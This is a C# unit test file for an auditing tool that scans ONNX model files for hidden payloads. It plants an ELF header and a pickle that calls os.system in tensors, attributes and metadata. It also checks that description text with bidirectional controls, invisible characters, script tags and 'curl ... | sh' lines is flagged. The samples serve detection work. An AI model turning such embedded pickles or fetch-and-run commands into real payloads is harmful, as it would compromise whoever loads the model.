using System.Collections.Immutable;
using System.Text;
using ModelAudit.Facts;
using ModelAudit.Formats;
using ModelAudit.Formats.Onnx;
using ModelAudit.Samples.Building;

namespace ModelAudit.Tests.Formats.Onnx;

public sealed class OnnxContentTests
{
    private static byte[] Elf => [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3E, 0, .. new byte[44]];

    // Protocol 2: c os\nsystem\n, a string, a tuple, a call, STOP.
    private static byte[] Pickle => [0x80, 2, .. "cos\nsystem\nq\0X"u8, 4, 0, 0, 0, .. "echo"u8, (byte)'q', 1, 0x85, (byte)'q', 2, (byte)'R', (byte)'q', 3, (byte)'.'];

    [Fact]
    public void An_executable_at_the_start_of_a_tensor_is_a_payload_and_a_file_of_its_own()
    {
        InspectionContext context = OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [Elf.Length], Elf)));
        FactItem payload = Assert.Single(context.Value(OnnxFacts.Payloads));
        Assert.Equal(("elf", "tensor", "w"), (payload["format"]!.Text, payload["place"]!.Text, payload["subject"]!.Text));
        (string name, ModelAudit.Reading.ArtifactReader content) = Assert.Single(context.Children);
        Assert.Equal(payload["child"]!.Text, name);
        Assert.Equal(Elf.Length, content.Length);
    }

    [Fact]
    public void An_executable_a_little_behind_the_start_is_found_too()
    {
        byte[] data = [.. new byte[1000], .. Elf];
        FactItem payload = Assert.Single(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [data.Length], data))).Value(OnnxFacts.Payloads));
        Assert.Equal(Elf.Length, payload["length"]!.Integer);
    }

    [Fact]
    public void A_pickle_is_found_in_a_string_attribute_in_metadata_and_in_an_unknown_field()
    {
        byte[] model = new OnnxBuilder().Graph(graph => graph.Node("A", "", "a", node => node.Bytes("s", Pickle)))
            .Metadata("state", "x " + Convert.ToBase64String([.. Pickle, .. new byte[120]])).Raw(writer => writer.Bytes(99, Pickle)).Build();
        ImmutableArray<FactItem> payloads = OnnxInspection.Of(model).Value(OnnxFacts.Payloads);
        Assert.Equal(["attribute", "metadata_props", "unknown-field"], payloads.Texts("place"));
        Assert.Equal(["raw", "base64", "raw"], payloads.Texts("encoding"));
        Assert.All(payloads, payload => Assert.Equal("pickle", payload["format"]!.Text));
    }

    [Fact]
    public void Weights_are_no_payload()
    {
        var random = new Random(7);
        byte[] weights = new byte[1 << 16];
        for (int i = 0; i < 50; i++)
        {
            random.NextBytes(weights);
            "MZ\u0090"u8.CopyTo(weights);
            Assert.Empty(OnnxInspection.Of(graph => graph.Initializer(OnnxTensorBuilder.Raw("w", 2, [weights.Length], weights))).Value(OnnxFacts.Payloads));
        }
    }

    [Theory]
    [InlineData("plain text with <angle> brackets, a | bar, caf\u00e9 and \u4e2d\u6587\r\n\t", "")]
    [InlineData("a\u202Eb", "bidirectional-control")]
    [InlineData("a\u200Bb", "invisible-character")]
    [InlineData("a\U000E0041b", "invisible-character")]
    [InlineData("a\u001B[31m", "control-character")]
    [InlineData("x <SCRIPT>alert(1)</script>", "markup")]
    [InlineData("curl example.org/x | sh", "shell")]
    [InlineData("curl example.org/x |bash -c", "shell")]
    public void Hidden_things_in_descriptions_are_told(string text, string codes)
    {
        InspectionContext context = OnnxInspection.Of(new OnnxBuilder().DocString(text).Graph(graph => graph.Node("Relu", "x", "y")).Build());
        Assert.Equal(codes, string.Join(' ', context.Value(OnnxFacts.Texts).Texts("code")));
    }

    [Fact]
    public void Words_of_a_vocabulary_are_no_finding()
    {
        InspectionContext context = OnnxInspection.Of(graph => graph.Node("A", "", "a", node => node.Texts("vocab", "<script", "| sh", "trojan", "\u0001")));
        Assert.Empty(context.Value(OnnxFacts.Texts));
    }

    [Fact]
    public void A_long_text_and_a_long_run_of_base64_are_told()
    {
        InspectionContext context = OnnxInspection.Of(new OnnxBuilder().Metadata("a", new string(' ', 70_000)).Metadata("b", Convert.ToBase64String(Encoding.ASCII.GetBytes(new string('x', 300)))).Graph(graph => graph.Node("Relu", "x", "y")).Build());
        Assert.Equal(["long", "base64"], context.Value(OnnxFacts.Texts).Texts("code"));
        Assert.Equal(["a", "b"], context.Value(OnnxFacts.Texts).Texts("subject"));
    }

    [Fact]
    public void Findings_of_one_kind_are_listed_up_to_a_bound_and_counted_in_a_gap()
    {
        InspectionContext context = OnnxInspection.Of(graph =>
        {
            for (int i = 0; i < 150; i++)
            {
                graph.Node("A", "", $"x{i}", node => node.Field(writer => writer.Text(6, "\u202E")));
            }
        });
        Assert.Equal(100, context.Value(OnnxFacts.Texts).Length);
        Assert.Contains(context.Gaps, gap => gap.Detail.Contains("bidirectional-control 150", StringComparison.Ordinal));
    }
}
